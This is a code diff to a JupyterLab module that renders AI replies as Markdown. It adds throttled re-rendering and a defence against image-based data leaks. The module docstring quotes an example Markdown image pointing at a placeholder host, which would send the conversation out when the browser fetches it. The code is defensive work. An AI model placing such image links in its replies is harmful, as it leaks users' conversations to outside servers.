@@ -7,21 +7,33 @@ text; markdown-it also refuses ``javascript:``/``vbscript:``/``data:``
 links. Only that HTML (plus the plain text) is handed to the front end,
 never the reply as ``text/markdown`` (JupyterLab treats live outputs as
 trusted and would render raw HTML inside Markdown).
+
+A Markdown image is fetched by the browser with no click, so a reply
+holding ``![ok](https://host/pixel.png?d=<your conversation>)`` would
+send the conversation away. Images are therefore only drawn from inline
+``data:image/(png|jpeg|gif|webp)`` URLs (nothing leaves the machine); any
+other image becomes a link, labelled with its alt text and address, that
+loads nothing until clicked.
 """
 
 from __future__ import annotations
 
 import html
+import re
 import time
 from collections.abc import Sequence
 
 from .. import ai
 
 _MD = None
+INLINE_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp);", re.IGNORECASE)
+GROWTH = 1.1  # a streaming re-render waits until the reply is this much longer ...
+COST_FACTOR = 10  # ... and this many times the last render's duration has passed
 
 
 def markdown_html(text: str) -> str:
-    """Return safe HTML for Markdown ``text``: raw HTML is escaped, bad link schemes dropped.
+    """Return safe HTML for Markdown ``text``: raw HTML is escaped, bad link schemes
+    dropped, and images that would be fetched from anywhere become links (see the module docs).
 
     Cost: one markdown-it parse, O(len(text)).
     """
@@ -30,7 +42,22 @@ def markdown_html(text: str) -> str:
         from markdown_it import MarkdownIt
 
         _MD = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
+        _MD.add_render_rule("image", _image)
     return _MD.render(text)
+
+
+def _image(self, tokens, idx, options, env) -> str:
+    """Render an image token: drawn when inline data, else a link that fetches nothing by itself."""
+    token = tokens[idx]
+    src = token.attrGet("src") or ""
+    if INLINE_IMAGE.match(src):
+        return self.image(tokens, idx, options, env)
+    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
+    where = html.escape(src)
+    return (
+        f'<a class="durable-remote-image" href="{where}" rel="noopener noreferrer nofollow" '
+        f'title="image not loaded: {where}">[image: {html.escape(alt)}] ({where})</a>'
+    )
 
 
 def reply_bundle(text: str, note: str = "") -> dict[str, str]:
@@ -46,19 +73,29 @@ def reply_bundle(text: str, note: str = "") -> dict[str, str]:
 
 
 class ReplyView:
-    """A display that shows the reply as it streams and re-renders at most every ``throttle`` seconds.
+    """A display that shows the reply as it streams, re-rendering it only now and then.
 
-    In a kernel it updates one display handle in place. Outside one
-    (terminal IPython) it prints the deltas as they come instead, since
-    there is no handle to update.
+    In a kernel it updates one display handle in place. A re-render of the
+    reply so far waits until (a) ``throttle`` seconds and :data:`COST_FACTOR`
+    times the last render's own duration (measured after it) have passed
+    since that render ended, and (b) the reply has grown by :data:`GROWTH`
+    since. So rendering takes at most about a tenth of the streaming time,
+    and a reply of n characters is rendered O(log n) times while it streams
+    (O(n) work in all), then once in full by :meth:`final`. ``renders``
+    counts the renders. Outside a kernel (terminal IPython) it prints the
+    deltas as they come instead, since there is no handle to update.
     """
 
     def __init__(self, in_kernel: bool, throttle: float = 0.05) -> None:
         self.in_kernel = in_kernel
         self.throttle = throttle
+        self.renders = 0
         self._handle = None
-        self._last = 0.0
+        self._next = 0.0  # no re-render before this time ...
+        self._shown = 0  # ... nor before the reply is GROWTH times this long
         self._printed = 0
+        if in_kernel:
+            markdown_html("")  # build the parser now, so the first render's cost is the render's own
 
     def update(self, text: str) -> None:
         """Show ``text`` (the reply so far) if the throttle allows."""
@@ -66,11 +103,13 @@ class ReplyView:
             print(text[self._printed :], end="", flush=True)
             self._printed = len(text)
             return
-        now = time.monotonic()
-        if self._handle is not None and now - self._last < self.throttle:
+        if self._handle is not None and (len(text) < self._shown * GROWTH or time.monotonic() < self._next):
             return
-        self._last = now
+        start = time.monotonic()
         self._show(reply_bundle(text))
+        end = time.monotonic()
+        self._shown = len(text)
+        self._next = end + max(self.throttle, COST_FACTOR * (end - start))
 
     def final(self, text: str, note: str = "") -> None:
         """Show the complete (or, with ``note``, partial) reply."""
@@ -85,6 +124,7 @@ class ReplyView:
     def _show(self, bundle: dict[str, str]) -> None:
         from IPython.display import display
 
+        self.renders += 1
         if self._handle is None:
             self._handle = display(bundle, raw=True, display_id=True)
         else:
